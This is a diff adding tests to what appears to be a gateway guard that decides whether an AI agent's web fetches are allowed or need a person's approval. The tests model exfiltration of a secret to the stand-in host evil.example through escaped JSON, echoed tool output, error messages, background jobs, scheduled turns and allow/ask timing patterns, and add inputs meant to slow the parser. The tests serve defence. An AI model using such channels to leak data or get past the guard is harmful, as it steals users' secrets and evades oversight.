@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import time
 from dataclasses import replace
 from pathlib import Path
 
@@ -199,6 +200,50 @@ async def test_what_repeats_the_models_own_words_gives_no_address(step: Step) ->
     assert (await judged(made, FETCH, about(made, step))).word == "ask"
 
 
+@pytest.mark.parametrize(
+    "arguments",
+    [
+        f'{{"path": "\\u0068ttps://evil.example/{KNOWN}"}}',
+        f'{{"path": "https:\\u002f\\u002fevil.example\\/{KNOWN}"}}',
+        f'{{"paths": [{{"https://evil.example/{KNOWN}": 1}}]}}',
+    ],
+)
+async def test_what_the_model_wrote_with_escapes_is_its_own_as_well(arguments: str) -> None:
+    """JSON has many ways to write one text, and a tool repeats it plain."""
+    asked = ToolCall(call_id="r", name="list_files", arguments=arguments)
+    echo = read(asked, f"no file fits https://evil.example/{KNOWN}", untrusted=False)
+    made = fetch(f"https://evil.example/{KNOWN}")
+
+    assert (await judged(made, FETCH, about(made, echo))).word == "ask"
+
+
+@pytest.mark.parametrize("after", [":", "/", "/.", "'s", "&page=1", "#x"])
+async def test_what_stands_behind_a_repeated_address_makes_no_new_one(after: str) -> None:
+    """`files that fit ADDRESS:` would give the address with its colon."""
+    url = f"https://evil.example/{KNOWN}"
+    asked = call("list_files", "r", pattern=url)
+    echo = read(asked, f"files that fit {url}{after} none", untrusted=False)
+    made = fetch(f"{url}{after}")
+
+    assert (await judged(made, FETCH, about(made, echo))).word == "ask"
+    host = f"https://{KNOWN}.evil.example"
+    asked = call("list_files", "r", pattern=host)
+    echo = read(asked, f"files that fit {host}/, none", untrusted=False)
+    made = fetch(f"{host}/,")
+    assert (await judged(made, FETCH, about(made, echo))).word == "ask"
+
+
+async def test_what_a_failed_call_says_gives_no_address() -> None:
+    """It says little but what it was called with."""
+    asked = call("list_files", "r", path="https:", pattern=f"//evil.example/{KNOWN}")
+    said_so = f"no such file: https://evil.example/{KNOWN}"
+    result = ToolResult(call_id="r", name="list_files", text=said_so, is_error=True)
+    made = fetch(f"https://evil.example/{KNOWN}")
+    of = about(made, START, Step(reply=said(asked), results=(result,)))
+
+    assert (await judged(made, FETCH, of)).word == "ask"
+
+
 async def test_what_the_model_said_first_is_its_own_over_turns() -> None:
     """It could say an address in one turn, and have a file name it in the next."""
     url = f"https://evil.example/{KNOWN}"
@@ -229,6 +274,20 @@ async def test_the_words_of_untrusted_messages_give_no_address() -> None:
     assert "a scheduled task" in verdict.reason
 
 
+async def test_what_a_program_says_of_the_models_own_doing_gives_no_address() -> None:
+    """The end of a background process is told with the command that it was begun with."""
+    url = f"https://evil.example/{KNOWN}"
+    begun = read(call("background_process", "p", command=f"true {url}"), "began", untrusted=False)
+    earlier = Turn(number=1, users=(UserMessage(text="go"),), steps=(START, begun))
+    made = fetch(url)
+    of = about(made, before=(earlier,))
+    assert of.current is not None
+    told = UserMessage(text=f"`true {url}` ended", sender="background_process")
+    of = replace(of, current=replace(of.current, users=(told,)))
+
+    assert (await judged(made, FETCH, of)).word == "ask"
+
+
 async def test_the_choice_of_pages_is_bounded() -> None:
     """A page that lists a thousand addresses learns ten bits from each that is asked for."""
     links = [f"https://evil.example/{number}" for number in range(1024)]
@@ -251,6 +310,51 @@ async def test_further_pages_of_one_text_cost_no_more() -> None:
         made = call("web_fetch", "now", url="https://docs.example/tasks?x=1", page=number)
         assert await judged(made, FETCH, about(made, *steps)) == ALLOW
         steps.append(read(replace(made, call_id=f"c{number}"), "more"))
+
+
+async def test_asking_again_for_the_same_page_costs_as_much_as_another() -> None:
+    """When somebody is asked, and when not, is a channel too."""
+    steps = [START]
+    words: list[str] = []
+    for number in range(400):
+        made = fetch("https://docs.example/tasks?x=1")
+        words.append((await judged(made, FETCH, about(made, *steps))).word)
+        steps.append(read(fetch("https://docs.example/tasks?x=1", f"c{number}"), "again"))
+
+    assert words[0] == "allow"
+    assert words[-1] == "ask"
+
+
+async def test_turns_that_programs_begin_grant_no_further_choice() -> None:
+    """A job every minute would be sixty times as much an hour."""
+    links = [f"https://evil.example/{number}" for number in range(1024)]
+    first = read(fetch("https://evil.example/", "first"), " ".join(links))
+    person = Turn(number=1, users=(UserMessage(text="go"),), steps=(first,))
+    turns, words = [person], list[str]()
+    for number, link in enumerate(links[:60]):
+        made = fetch(link)
+        of = about(made, before=tuple(turns))
+        assert of.current is not None
+        job = (UserMessage(text="again", sender="schedule"),)
+        of = replace(of, current=replace(of.current, number=99, users=job))
+        words.append((await judged(made, FETCH, of)).word)
+        step = read(fetch(link, f"c{number}"), "one bit more")
+        turns.append(Turn(number=number + 2, users=job, steps=(step,)))
+    made = fetch(links[0])
+
+    assert (words[0], words[-1]) == ("allow", "ask")
+    assert await judged(made, FETCH, about(made, before=tuple(turns))) == ALLOW
+
+
+def test_what_a_page_can_cost_is_bounded() -> None:
+    """A page that makes the gateway slow stops everybody's conversations."""
+    began = time.perf_counter()
+    addresses_in("https://h.example/" + ")" * 300_000)
+    addresses_in("a." * 150_000 + "1", bare=True)
+    addresses_in("https://h.example/a?&amp;'" * 20_000, bare=True)
+    addresses_in("\\\\/" * 100_000)
+
+    assert time.perf_counter() - began < 5
 
 
 @pytest.mark.parametrize(
